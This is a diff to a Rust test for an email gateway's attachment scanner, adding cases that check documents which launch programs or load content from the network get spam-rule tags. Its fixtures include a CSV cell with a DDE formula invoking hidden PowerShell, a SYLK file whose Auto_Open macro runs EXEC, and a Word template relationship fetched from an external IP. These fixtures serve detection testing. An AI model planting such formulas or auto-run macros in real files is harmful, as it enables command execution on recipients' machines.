@@ -406,13 +406,20 @@ fn documents_that_start_a_program_or_load_one_from_the_network_are_tagged() {
         "word/_rels/settings.xml.rels",
         b"<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://203.0.113.9/t.dotm\" TargetMode=\"External\"/></Relationships>",
     ));
+    // Spreadsheet text with a DDE formula; a SYLK file whose Auto_Open runs Excel 4 macros.
+    let csv = b"name,amount\r\nrefund,=cmd|'/c powershell -w hidden'!A0\r\n".to_vec();
+    let sylk =
+        b"ID;PWXL;N;E\r\nNN;NAuto_Open;ER1C1\r\nC;Y1;X1;EEXEC(\"calc\")\r\nC;Y2;EHALT()\r\nE\r\n"
+            .to_vec();
     let cases = [
-        (dde, "OFFICE_DDE=5.00"),
-        (template, "OFFICE_REMOTE_OBJECT=5.00"),
+        (dde, "notice.docx", "OFFICE_DDE=5.00"),
+        (template, "notice.docx", "OFFICE_REMOTE_OBJECT=5.00"),
+        (csv, "refund.csv", "OFFICE_DDE=5.00"),
+        (sylk, "prices.xls", "OFFICE_MACRO_AUTORUN=6.00"),
     ];
-    for (i, (doc, symbol)) in cases.into_iter().enumerate() {
-        let msg =
-            message_with_attachment("notice", "notice.docx", "application/octet-stream", &doc);
+    let sent = cases.len();
+    for (i, (doc, name, symbol)) in cases.into_iter().enumerate() {
+        let msg = message_with_attachment("notice", name, "application/octet-stream", &doc);
         let r = send(&gw, &msg);
         assert_eq!(r.code, 250, "{r:?}");
         let got = internal.expect_messages(i + 1);
@@ -428,7 +435,7 @@ fn documents_that_start_a_program_or_load_one_from_the_network_are_tagged() {
         &message_with_attachment("notice", "notice.docx", "application/octet-stream", &plain),
     );
     assert_eq!(r.code, 250, "{r:?}");
-    let got = internal.expect_messages(3);
-    let rules = got[2].header("X-Spam-Rules").unwrap_or_default();
+    let got = internal.expect_messages(sent + 1);
+    let rules = got[sent].header("X-Spam-Rules").unwrap_or_default();
     assert!(!rules.contains("OFFICE_"), "{rules}");
 }
